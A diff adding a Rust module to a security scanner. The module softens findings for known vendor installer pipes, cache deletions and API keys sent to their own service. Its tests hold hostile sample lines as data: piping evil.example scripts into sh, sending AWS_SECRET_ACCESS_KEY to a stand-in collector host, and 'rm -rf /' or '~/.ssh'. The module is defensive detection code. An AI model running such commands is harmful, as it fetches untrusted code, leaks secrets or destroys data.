@@ -1,0 +1,259 @@
+//! Commands that look like attacks but are routine: the vendor installers everybody pipes
+//! into a shell (`curl … https://sh.rustup.rs | sh`), and recursive deletes of caches and
+//! temporary files (`rm -rf /var/lib/apt/lists/*`).
+//!
+//! **Threat.** Blocking these outright teaches operators to override the scanner; letting
+//! them through unread would let an attacker hide behind them. **Guarantee.** A pipe into a
+//! shell is softened (to a finding to review, `Medium`) only when *every* URL on the line is
+//! HTTPS on one of [`KNOWN_INSTALLERS`]' hosts and paths; a recursive delete is softened
+//! (`Low`) only when *every* path it names is a cache or temporary location. One other URL
+//! or one other path and the rule weighs as before.
+
+/// Well-known vendor installer scripts, as `host/path-prefix` (an empty path: the whole
+/// host is the vendor's installer endpoint).
+pub(crate) const KNOWN_INSTALLERS: &[&str] = &[
+    "sh.rustup.rs/",
+    "static.rust-lang.org/rustup/",
+    "astral.sh/uv/",
+    "astral.sh/ruff/",
+    "get.docker.com/",
+    "raw.githubusercontent.com/Homebrew/install/",
+    "raw.githubusercontent.com/nvm-sh/nvm/",
+    "deb.nodesource.com/",
+    "rpm.nodesource.com/",
+    "bun.sh/install",
+    "deno.land/install.sh",
+    "deno.land/x/install/",
+    "get.pnpm.io/",
+    "install.python-poetry.org/",
+    "ollama.com/install.sh",
+    "get.sdkman.io/",
+    "fnm.vercel.app/install",
+    "starship.rs/install.sh",
+    "tailscale.com/install.sh",
+    "raw.githubusercontent.com/helm/helm/",
+    "get.helm.sh/",
+    "cli.github.com/",
+    "sh.vector.dev/",
+    "install.determinate.systems/nix",
+    "nixos.org/nix/install",
+    "claude.ai/install.sh",
+    "opencode.ai/install",
+    "get.volta.sh/",
+    "pyenv.run/",
+    "mise.run/",
+    "min.io/",
+    "dl.google.com/",
+];
+
+/// Whether every URL on `line` is an HTTPS URL of a known installer (and there is one).
+pub(crate) fn only_known_installers(line: &str) -> bool {
+    let mut seen = false;
+    let mut rest = line;
+    while let Some(at) = rest.find("://") {
+        let scheme_start = rest[..at]
+            .rfind(|c: char| !c.is_ascii_alphanumeric())
+            .map_or(0, |p| p + 1);
+        let scheme = &rest[scheme_start..at];
+        let after = &rest[at + 3..];
+        let end = after
+            .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | ')' | '|' | ';'))
+            .unwrap_or(after.len());
+        let url = &after[..end];
+        if !scheme.eq_ignore_ascii_case("https") || !is_known(url) {
+            return false;
+        }
+        seen = true;
+        rest = &after[end..];
+    }
+    seen
+}
+
+fn is_known(url: &str) -> bool {
+    KNOWN_INSTALLERS.iter().any(|k| {
+        url.len() >= k.len()
+            && url.is_char_boundary(k.len())
+            && url[..k.len()].eq_ignore_ascii_case(k)
+            // `sh.rustup.rs/` matches the host exactly; `bun.sh/install` as a whole path.
+            || k.strip_suffix('/').is_some_and(|h| url.eq_ignore_ascii_case(h))
+    })
+}
+
+/// Whether a recursive delete (the matched command text, `rm -rf …`) names only cache and
+/// temporary locations. Anything else (a variable, a home or system path, a glob at a
+/// root) keeps the delete's weight.
+pub(crate) fn only_disposable_targets(command: &str) -> bool {
+    let mut words = command.split_whitespace();
+    if words.next() != Some("rm") {
+        return false;
+    }
+    let mut any = false;
+    for word in words {
+        if word.starts_with('-') {
+            continue;
+        }
+        let path = word.trim_matches(|c| c == '"' || c == '\'');
+        if !is_disposable(path) {
+            return false;
+        }
+        any = true;
+    }
+    any
+}
+
+fn is_disposable(path: &str) -> bool {
+    const PREFIXES: &[&str] = &[
+        "/tmp/",
+        "/var/tmp/",
+        "/var/cache/",
+        "/var/lib/apt/lists",
+        "/usr/share/doc/",
+        "/usr/share/man/",
+        "~/.cache/",
+        "$HOME/.cache/",
+        "${HOME}/.cache/",
+        "/root/.cache/",
+        "~/.npm/_cacache",
+        "$HOME/.npm/_cacache",
+    ];
+    // A parent reference could climb out of the cache.
+    if path.contains("..") {
+        return false;
+    }
+    PREFIXES.iter().any(|p| {
+        path.starts_with(p)
+            // `/tmp/` alone or `/var/cache/` alone is the whole location, still disposable,
+            // but something must follow the prefix for the bare-root forms.
+            && (path.len() > p.len() || p.ends_with("lists"))
+    }) || (!path.starts_with('/')
+        && !path.starts_with('~')
+        && !path.starts_with('$')
+        && path
+            .split('/')
+            .any(|c| matches!(c, ".cache" | "__pycache__" | "node_modules")))
+}
+
+/// Whether a request line sends its secrets only as authentication to their own service:
+/// an authentication parameter (`key=`, `token=`, `"api_key":`) is present, and every
+/// secret-named variable's service (the first part of `GEO_API_KEY`, at least three
+/// letters) is part of a host the line names. `?k=$AWS_SECRET_ACCESS_KEY` to another host
+/// keeps its weight; so does any secret whose service is not the host's.
+pub(crate) fn key_to_own_service(line: &str) -> bool {
+    const AUTH_PARAMS: &[&str] = &[
+        "key=",
+        "token=",
+        "auth=",
+        "appid=",
+        "app_id=",
+        "signature=",
+        "client_secret=",
+        "key\":",
+        "key':",
+        "token\":",
+        "token':",
+        "auth\":",
+        "auth':",
+    ];
+    let lower = line.to_ascii_lowercase();
+    if !AUTH_PARAMS
+        .iter()
+        .any(|p| lower.contains(p) || lower.contains(&p.replace(':', " :")))
+    {
+        return false;
+    }
+    let hosts: Vec<&str> = lower
+        .match_indices("://")
+        .filter_map(|(at, _)| lower.get(at + 3..))
+        .map(|rest| {
+            let end = rest
+                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '-'))
+                .unwrap_or(rest.len());
+            &rest[..end]
+        })
+        .filter(|h| !h.is_empty())
+        .collect();
+    if hosts.is_empty() {
+        return false;
+    }
+    let mut secrets = 0usize;
+    for word in line.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_')) {
+        let secret_like = word.contains('_')
+            && word.bytes().all(|b| !b.is_ascii_lowercase())
+            && ["KEY", "TOKEN", "SECRET", "PASSWORD", "AUTH"]
+                .iter()
+                .any(|s| word.contains(s));
+        if !secret_like {
+            continue;
+        }
+        secrets += 1;
+        let service = word.split('_').find(|p| !p.is_empty()).unwrap_or("");
+        if service.len() < 3 {
+            return false;
+        }
+        let service = service.to_ascii_lowercase();
+        if !hosts.iter().any(|h| h.contains(service.as_str())) {
+            return false;
+        }
+    }
+    secrets > 0
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn installers_only_when_every_url_is_known() {
+        assert!(only_known_installers(
+            "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh"
+        ));
+        assert!(only_known_installers(
+            "curl -LsSf https://astral.sh/uv/install.sh | sh"
+        ));
+        // Plain HTTP, another host, a lookalike host, a second URL: not softened.
+        assert!(!only_known_installers("curl http://sh.rustup.rs | sh"));
+        assert!(!only_known_installers(
+            "curl https://sh.rustup.rs.evil.example/ | sh"
+        ));
+        assert!(!only_known_installers(
+            "curl https://evil.example/i.sh | sh"
+        ));
+        assert!(!only_known_installers(
+            "curl https://sh.rustup.rs | sh; curl https://x.example/p | sh"
+        ));
+        assert!(!only_known_installers("curl $URL | sh"));
+    }
+
+    #[test]
+    fn keys_to_their_own_service() {
+        assert!(key_to_own_service(
+            "curl \"https://maps.geo-api.example/v2?q=x&key=$GEO_API_KEY\""
+        ));
+        assert!(key_to_own_service(
+            "requests.post(\"https://api.mailer.example/s\", json={\"token\": os.environ[\"MAILER_TOKEN\"]})"
+        ));
+        // Another service's secret, no authentication parameter, or no host: not softened.
+        assert!(!key_to_own_service(
+            "curl \"https://collect.example.net/c?key=$AWS_SECRET_ACCESS_KEY\""
+        ));
+        assert!(!key_to_own_service(
+            "curl -d \"data=$GEO_API_KEY\" https://geo.example/"
+        ));
+        assert!(!key_to_own_service("curl \"$URL?key=$GEO_API_KEY\""));
+        assert!(!key_to_own_service(
+            "curl \"https://geo.example/?key=$GEO_API_KEY&t=$AWS_SECRET_ACCESS_KEY\""
+        ));
+    }
+
+    #[test]
+    fn disposable_deletes() {
+        assert!(only_disposable_targets("rm -rf /var/lib/apt/lists/*"));
+        assert!(only_disposable_targets("rm -rf ~/.cache/pip /tmp/build-*"));
+        assert!(!only_disposable_targets("rm -rf /var/lib/apt/lists/* /etc"));
+        assert!(!only_disposable_targets("rm -rf /tmp/../etc"));
+        assert!(!only_disposable_targets("rm -rf /tmp/"));
+        assert!(!only_disposable_targets("rm -rf ~/.ssh"));
+        assert!(!only_disposable_targets("rm -rf $TARGET"));
+        assert!(!only_disposable_targets("rm -rf /"));
+    }
+}
